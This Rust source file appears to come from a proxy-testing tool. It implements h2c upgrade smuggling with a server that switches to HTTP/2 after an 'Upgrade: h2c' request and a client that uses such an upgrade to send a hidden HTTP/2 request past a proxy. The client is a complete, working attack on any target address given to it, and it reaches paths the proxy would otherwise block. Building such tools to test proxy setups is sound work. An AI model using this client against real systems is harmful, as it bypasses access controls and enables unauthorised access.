//! h2c upgrade smuggling, both ends: a server that honours `Upgrade: h2c` the way Go's,
//! Jetty's and Tomcat's do (101, then HTTP/2 on the same connection), and a client that asks
//! for the upgrade with an innocent request and, once switched, sends the request it means
//! over HTTP/2, where a proxy that bridged the 101 as raw bytes sees nothing of it.
//!
//! The server answers every request with `{"path", "protocol"}` as JSON and logs each to
//! stderr. The client prints `{"upgrade_status", "smuggled_status", "smuggled_body"}`.

use std::{convert::Infallible, net::SocketAddr};

use anyhow::{Context, bail};
use http_body_util::{BodyExt, Empty, Full};
use hyper::{
    Request, Response, StatusCode,
    body::{Bytes, Incoming},
    service::service_fn,
};
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use crate::connection::listen_dual_stack;

#[derive(clap::Args)]
pub struct H2cServerArgs {
    #[arg(long)]
    port: u16,
}

#[derive(clap::Args)]
pub struct H2cSmuggleArgs {
    #[arg(long)]
    target: SocketAddr,
    #[arg(long)]
    upgrade_path: String,
    #[arg(long)]
    smuggled_path: String,
}

/// Largest request or response head read.
const MAX_HEAD: usize = 16 * 1024;
/// An empty SETTINGS payload, base64url: what `HTTP2-Settings` must carry at least.
const HTTP2_SETTINGS: &str = "AAMAAABkAAQAoAAAAAIAAAAA";

pub async fn server(args: &H2cServerArgs) -> anyhow::Result<()> {
    let port = args.port;
    let listener = listen_dual_stack(port)?;
    eprintln!("h2c-server: listening on [::]:{port} (HTTP/1.1, Upgrade: h2c)");
    loop {
        let (stream, _) = match listener.accept().await {
            Ok(accepted) => accepted,
            Err(error) => {
                eprintln!("h2c-server: accept: {error}");
                continue;
            }
        };
        tokio::spawn(async move {
            if let Err(error) = serve_connection(stream).await {
                eprintln!("h2c-server: {error:#}");
            }
        });
    }
}

async fn serve_connection(mut stream: TcpStream) -> anyhow::Result<()> {
    let head = read_head(&mut stream).await?;
    let path = head
        .lines()
        .next()
        .and_then(|line| line.split(' ').nth(1))
        .unwrap_or("/")
        .to_owned();
    let wants_h2c = head.lines().any(|line| {
        line.split_once(':').is_some_and(|(name, value)| {
            name.trim().eq_ignore_ascii_case("upgrade")
                && value
                    .split(',')
                    .any(|p| p.trim().eq_ignore_ascii_case("h2c"))
        })
    });
    if !wants_h2c {
        eprintln!("h2c-server: {path} over HTTP/1.1");
        let body = answer_body(&path, "HTTP/1.1");
        let response = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
            body.len()
        );
        stream.write_all(response.as_bytes()).await?;
        return Ok(());
    }
    eprintln!("h2c-server: {path} asks for h2c: switching");
    stream
        .write_all(
            b"HTTP/1.1 101 Switching Protocols\r\nconnection: Upgrade\r\nupgrade: h2c\r\n\r\n",
        )
        .await?;
    let service = service_fn(|request: Request<Incoming>| async move {
        let path = request.uri().path().to_owned();
        eprintln!("h2c-server: {path} over HTTP/2");
        let mut response = Response::new(Full::new(Bytes::from(answer_body(&path, "HTTP/2"))));
        response.headers_mut().insert(
            hyper::header::CONTENT_TYPE,
            hyper::header::HeaderValue::from_static("application/json"),
        );
        Ok::<_, Infallible>(response)
    });
    hyper::server::conn::http2::Builder::new(TokioExecutor::new())
        .serve_connection(TokioIo::new(stream), service)
        .await
        .context("serving HTTP/2 after the upgrade")
}

fn answer_body(path: &str, protocol: &str) -> String {
    json!({ "path": path, "protocol": protocol }).to_string()
}

/// Asks `target` to upgrade to h2c with `GET upgrade_path`; once switched, GETs
/// `smuggled_path` over HTTP/2 on the same connection.
pub async fn smuggle(args: &H2cSmuggleArgs) -> anyhow::Result<()> {
    let (target, upgrade_path, smuggled_path) =
        (args.target, &args.upgrade_path, &args.smuggled_path);
    let mut stream = TcpStream::connect(target)
        .await
        .with_context(|| format!("connecting to {target}"))?;
    let request = format!(
        "GET {upgrade_path} HTTP/1.1\r\nhost: {target}\r\nconnection: Upgrade, HTTP2-Settings\r\nupgrade: h2c\r\nhttp2-settings: {HTTP2_SETTINGS}\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await?;
    let head = read_head(&mut stream).await?;
    let status: u16 = head
        .lines()
        .next()
        .and_then(|line| line.split(' ').nth(1))
        .and_then(|code| code.parse().ok())
        .with_context(|| format!("no status line in {head:?}"))?;
    if status != 101 {
        println!(
            "{}",
            json!({ "upgrade_status": status, "smuggled_status": null, "smuggled_body": null })
        );
        return Ok(());
    }
    let (mut sender, connection) = hyper::client::conn::http2::Builder::new(TokioExecutor::new())
        .handshake::<_, Empty<Bytes>>(TokioIo::new(stream))
        .await
        .context("HTTP/2 after the upgrade")?;
    tokio::spawn(connection);
    let uri = format!("http://{target}{smuggled_path}");
    let response = sender
        .send_request(Request::get(uri).body(Empty::new())?)
        .await
        .context("the smuggled request")?;
    let smuggled_status = response.status();
    let body = response.into_body().collect().await?.to_bytes();
    println!(
        "{}",
        json!({
            "upgrade_status": status,
            "smuggled_status": smuggled_status.as_u16(),
            "smuggled_body": String::from_utf8_lossy(&body),
        })
    );
    if smuggled_status != StatusCode::OK {
        bail!("the smuggled request got {smuggled_status}");
    }
    Ok(())
}

/// Reads an HTTP/1.1 head byte by byte (nothing after it is consumed).
async fn read_head(stream: &mut TcpStream) -> anyhow::Result<String> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        if head.len() >= MAX_HEAD {
            bail!("head over {MAX_HEAD} bytes");
        }
        let byte = stream.read_u8().await.context("reading a head")?;
        head.push(byte);
    }
    Ok(String::from_utf8_lossy(&head).into_owned())
}
